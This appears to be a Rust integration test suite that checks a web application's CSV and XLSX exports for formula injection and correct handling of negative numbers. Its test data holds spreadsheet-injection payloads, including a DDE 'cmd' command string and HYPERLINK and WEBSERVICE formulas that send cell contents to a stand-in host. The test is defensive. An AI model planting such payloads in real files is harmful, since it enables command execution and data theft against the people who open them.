//! No text that people filed becomes a formula in what is taken out (reliability C5).

use super::house::House;
use serde_json::{Value, json};
use std::io::{Cursor, Read};
use zip::ZipArchive;

/// Signs by which a spreadsheet knows a formula, full-width ones too.
const SIGNS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
/// What may stand before them without being seen.
const BEFORE: [&str; 7] = ["", " ", "\t", "\r\n", "\u{3000}", "\u{feff}", "\u{200b}"];
/// What follows.
const AFTER: [&str; 4] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://elsewhere.invalid/?\"&A1)",
    "SUM(1,1)*WEBSERVICE(\"http://elsewhere.invalid\")",
];

fn formulas() -> Vec<String> {
    let signed = BEFORE.iter().flat_map(|before| SIGNS.map(|sign| format!("{before}{sign}")));
    signed.flat_map(|start| AFTER.map(|after| format!("{start}{after}"))).collect()
}

/// Puts a formula into every text of the sheet, and negative numbers where numbers belong.
async fn fill(house: &House) -> Vec<String> {
    let all = formulas();
    let (_, token) = house.bearer("preparer").await;
    let path = format!("/api/v1/sheets/{}", house.sheet);
    let sheet = house.ask("GET", &path).by_program(&token).go().await.text;
    let mut typed = serde_json::from_str::<Value>(&sheet).unwrap()["typed"].take();
    for key in ["title", "unit_code", "unit_name", "project_code", "project_name", "purpose"] {
        typed[key] = format!("={key}").into();
    }
    typed["budget_total"] = "-12.50".into();
    typed["budget_fiscal"] = "=1+1".into();
    typed["goals"] = json!(all);
    let row = |text: &String| {
        json!({
            "level1": text, "level2": text, "name": text, "definition": text, "target": text,
            "basis": text, "weight": "-5", "actual": text, "score": text, "reason": text
        })
    };
    typed["indicators"] = all.iter().map(row).collect();
    let saving = json!({ "typed": typed, "note": "=1+1" });
    let ask = house.ask("POST", &format!("{path}/save")).by_program(&token);
    let answer = ask.sending("application/json", saving.to_string()).go().await;
    assert_eq!(answer.status.as_u16(), 200, "{}", answer.text);
    all
}

async fn taken_out(house: &House, path: &str) -> Vec<u8> {
    let session = house.session("viewer").await;
    let answer = house.ask("GET", &house.filled(path, false)).by_session(&session).go().await;
    assert_eq!(answer.status.as_u16(), 200, "{path}: {}", answer.text);
    answer.bytes
}

/// The cells of CSV, as a spreadsheet takes them apart.
fn cells(csv: &str) -> Vec<String> {
    let (mut cells, mut quoted) = (vec![String::new()], false);
    for c in csv.trim_start_matches('\u{feff}').chars() {
        match c {
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(String::new()),
            _ => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}

/// Whether a spreadsheet would take a cell for a formula: after blanks and unseen marks.
fn is_formula(cell: &str) -> bool {
    let seen = cell
        .trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '\u{feff}' | '\u{200b}'));
    SIGNS.iter().any(|sign| seen.starts_with(sign)) && cell.trim().parse::<f64>().is_err()
}

/// The parts of a workbook.
fn parts_of(workbook: &[u8]) -> Vec<String> {
    let mut archive = ZipArchive::new(Cursor::new(workbook)).unwrap();
    let mut parts = Vec::new();
    for index in 0..archive.len() {
        let mut xml = String::new();
        archive.by_index(index).unwrap().read_to_string(&mut xml).unwrap();
        parts.push(xml);
    }
    parts
}

/// The formulas of a workbook.
fn formulas_of(workbook: &[u8]) -> Vec<String> {
    let all = parts_of(workbook).concat();
    let starts = all.split("<f>").skip(1).chain(all.split("<f ").skip(1));
    starts.map(|start| start.split("</f>").next().unwrap().to_owned()).collect()
}

#[tokio::test]
async fn no_cell_of_csv_is_a_formula_and_negative_numbers_stay_numbers() {
    let house = House::open().await;
    let all = fill(&house).await;
    let csv = taken_out(&house, "/documents/{id}/export?to=csv").await;
    let csv = String::from_utf8(csv).unwrap();
    let cells = cells(&csv);
    let found: Vec<&String> = cells.iter().filter(|cell| is_formula(cell)).collect();
    assert!(found.is_empty(), "{found:?}");
    assert!(cells.iter().filter(|cell| *cell == "-5").count() >= all.len(), "{csv}");
    // The texts themselves are not lost, and the test does see formulas.
    let is_there = |text: &String| {
        let text = text.trim().replace('"', "");
        cells.iter().any(|cell| cell.contains(&text))
    };
    let lost: Vec<&String> = all.iter().filter(|text| !is_there(text)).collect();
    assert!(lost.is_empty(), "{lost:?}");
    assert!(all.iter().all(|text| is_formula(text)));
}

#[tokio::test]
async fn no_cell_of_a_workbook_is_a_formula_but_our_own_sums() {
    let house = House::open().await;
    fill(&house).await;
    for to in ["xlsx", "review_xlsx"] {
        let path = format!("/documents/{{id}}/export?to={to}");
        let workbook = taken_out(&house, &path).await;
        let foreign: Vec<String> = formulas_of(&workbook)
            .into_iter()
            .filter(|formula| !formula.starts_with("SUM(") && !formula.starts_with("SUBTOTAL("))
            .collect();
        assert!(foreign.is_empty(), "{to}: {foreign:?}");
    }
    let workbook = taken_out(&house, "/sheets/{id}/export?to=xlsx").await;
    let all = parts_of(&workbook).concat();
    assert!(all.contains("<v>-12.5</v>") || all.contains("<v>-12.50</v>"), "{all}");
}

/// Records of reference figures whose every text is a formula and whose value is negative.
async fn enter(house: &House) -> Vec<String> {
    let all = formulas();
    let (_, token) = house.bearer("preparer").await;
    let record = |(number, text): (usize, &String)| {
        json!({
            "unit_code": "333002", "valid_from": "2021-01-01", "remark": text,
            "fields": {
                "key": format!("{text}{number}").chars().take(40).collect::<String>(),
                "name": format!("{text}{number}"), "value": "-12.5", "unit": "=1+1",
                "document": text, "document_no": text
            }
        })
    };
    let records: Vec<Value> = all.iter().enumerate().map(record).collect();
    let ask = house.ask("POST", "/api/v1/ledgers/ref_value/records").by_program(&token);
    let sending = json!({ "records": records }).to_string();
    let answer = ask.sending("application/json", sending).go().await;
    assert_eq!(answer.status.as_u16(), 201, "{}", answer.text);
    all
}

#[tokio::test]
async fn no_cell_of_a_ledger_taken_out_is_a_formula_and_negative_numbers_stay_numbers() {
    let house = House::open().await;
    let all = enter(&house).await;
    let path = "/ledgers/ref_value/export?as_of=2021-12-31&to=";
    let csv = String::from_utf8(taken_out(&house, &format!("{path}csv")).await).unwrap();
    let cells = cells(&csv);
    let found: Vec<&String> = cells.iter().filter(|cell| is_formula(cell)).collect();
    assert!(found.is_empty(), "{found:?}");
    let is_value = |cell: &&String| cell.trim_end_matches('0') == "-12.5";
    assert_eq!(cells.iter().filter(is_value).count(), all.len(), "{csv}");
    let workbook = taken_out(&house, &format!("{path}xlsx")).await;
    assert_eq!(formulas_of(&workbook), Vec::<String>::new());
    let parts = parts_of(&workbook).concat();
    assert!(parts.matches("<v>-12.5").count() >= all.len(), "{parts:.2000}");
}
